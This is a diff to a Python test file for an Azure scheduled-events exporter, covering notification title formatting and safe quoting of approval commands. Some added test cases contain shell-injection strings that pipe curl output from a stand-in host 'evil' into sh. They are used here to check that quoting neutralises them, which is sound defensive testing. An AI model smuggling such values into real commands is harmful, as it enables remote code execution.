@@ -1,3 +1,5 @@
+import html
+import shlex
 from datetime import timedelta
 from typing import Any
 
@@ -9,6 +11,7 @@ from exporter.model.events import Target
 from exporter.model.lifecycle import Change, Transition, TransitionRecord
 from exporter.model.messages import AnyMessage, Message, TextFormat, WatchChange, WatchMessage
 from exporter.model.views import ApprovalView
+from exporter.model.wording import command_line
 from tests.builders import NOT_BEFORE, REBOOT_ID
 from tests.clocks import NOW
 from tests.notifications.messages import message
@@ -29,29 +32,35 @@ def test_what_takes_the_vm_away_has_no_duration() -> None:
     assert "Expected impact: about 9 s" in body(message(type="Terminate"))
 
 
-@pytest.mark.parametrize(("later", "at"), [(-1, "22:00 UTC"), (0, "4 Mar 22:00 UTC")])
+@pytest.mark.parametrize(("later", "at"), [(-1, " at 22:00 UTC"), (0, ", 4 Mar 22:00 UTC")])
 def test_an_event_of_another_day_has_its_date(later: int, at: str) -> None:
     """A time of day alone would be taken for that of today, if it is not within 20 hours."""
     now = NOW + timedelta(hours=20, seconds=later)
     found = Renderer(Templates()).render(message(Transition.COMPLETED), now)
-    assert found.title == f"[SUCCESS] Reboot completed: vm_0 at {at}"
+    assert found.title == f"[SUCCESS] Reboot completed: vm_0{at}"
 
 
 @pytest.mark.parametrize(
-    ("event_type", "instance", "rest"),
+    ("instance", "minutes", "rest"),
     [
-        ("Reboot", "vm_4567890", "vm_4567890 at 22:15 UTC (15 min)"),
-        ("Reboot", "vm_45678901", "vm_45678901 at 22:15 UTC"),
-        ("Reboot", "vm_4567890123456789", "vm_4567890123456789 at 22:15 UTC"),
-        ("Reboot", "vm_45678901234567890", "vm_45678...34567890 at 22:15 UTC"),
-        ("Freeze", "vm_4567890123456789012", "vm_4567890123456789012 at 22:15 UTC"),
-        ("Freeze", "vm_45678901234567890123", "vm_456789...4567890123 at 22:15 UTC"),
+        ("vm_4567890", 15, "vm_4567890 at 22:15 UTC (15 min)"),
+        ("vm_45678901", 15, "vm_45678901 in 15 min"),
+        ("vm_4567890123456789012", 15, "vm_4567890123456789012 in 15 min"),
+        ("vm_45678901234567890123", 15, "vm_456789...4567890123 in 15 min"),
+        ("vm_4567890", 60, "vm_4567890 at 23:00 UTC (60 min)"),
+        ("vm_45678901", 60, "vm_45678901 at 23:00 UTC"),
+        ("vm_45678901234567890", 60, "vm_45678...34567890 at 23:00 UTC"),
+        ("vm_0", 2, "vm_0 at 22:02 UTC (2 min)"),
+        ("vm_0", 119 / 60, "vm_0 at 22:01 UTC (119 s)"),
     ],
 )
-def test_what_a_title_has_room_for(event_type: str, instance: str, rest: str) -> None:
-    """It has 60 characters: the time left is omitted first, then the middle of the VM's name."""
-    found = title(message(type=event_type, instance=instance))
-    assert found.partition("] ")[2] == f"{event_type} scheduled: {rest}"
+def test_what_a_title_has_room_for(instance: str, minutes: float, rest: str) -> None:
+    """It has 60 characters: the time of day is omitted if less than an hour is left, or else the time left.
+
+    Then a long name is shortened in its middle.
+    """
+    due = NOW + timedelta(minutes=minutes)
+    assert title(message(instance=instance, not_before=due)) == f"[WARNING] Reboot scheduled: {rest}"
 
 
 def test_a_hook_that_fails_during_the_event() -> None:
@@ -106,6 +115,32 @@ def test_how_to_approve(state: str | None, fields: dict[str, Any], shown: list[s
     assert [line for line in body(sent).splitlines() if "Approval" in line or "To start" in line] == shown
 
 
+@pytest.mark.parametrize(
+    ("word", "windows", "found"),
+    [
+        (REBOOT_ID, True, REBOOT_ID),
+        ("E1;curl${IFS}evil|sh", False, "'E1;curl${IFS}evil|sh'"),
+        ("E1;curl${IFS}evil|sh", True, '"E1;curl?{IFS}evil|sh"'),
+        ("a\"b'c`d%e\u201df\\", True, '"a?b\'c?d?e?f?"'),
+        ("", True, '""'),
+    ],
+)
+def test_a_word_of_a_command_is_a_word(word: str, windows: bool, found: str) -> None:
+    """What is pasted into a shell runs the program alone, whatever an id or a name contains."""
+    assert command_line("approve", word, windows=windows) == f"approve {found}"
+
+
+@pytest.mark.parametrize("text_format", ["markdown", "text", "html"])
+def test_the_command_of_a_message_is_quoted(text_format: TextFormat) -> None:
+    """An id with a backtick, which Markdown must not have, does not end its quotation either."""
+    sent = message(id="E1`;curl evil;`|sh", source="User")
+    found = html.unescape(body(sent, format=text_format))
+    (line,) = [line for line in found.splitlines() if "To start it now: " in line]
+    words = shlex.split(line.partition("now: ")[2])
+    assert words[:2] == ["azure-scheduled-events-exporter", "approve"]
+    assert len(words) == 3
+
+
 @pytest.mark.parametrize(("count", "more"), [(10, ""), (11, " and 1 more")])
 def test_many_vms_are_counted(count: int, more: str) -> None:
     """After ten names the rest is a number."""
@@ -157,7 +192,7 @@ def test_what_imds_said_is_data(text_format: TextFormat) -> None:
     """The text of an error is not markup; while the VM has no name, the message names the host."""
     odd = msgspec.structs.replace(BLIND, instance=None, incident="watch/db-1", error="<b>@all `x`")
     found = Renderer(Templates(format=text_format)).render(odd, NOW, failed=True)
-    assert found.title == "[WARNING] Blind: scheduled events of db-1 unknown for 5 min"
+    assert found.title == "[WARNING] Blind: events of db-1 unknown for 5 min"
     assert "Host name: db-1" in found.body
     assert "@" not in found.body
     assert text_format != "html" or "<b>" not in found.body
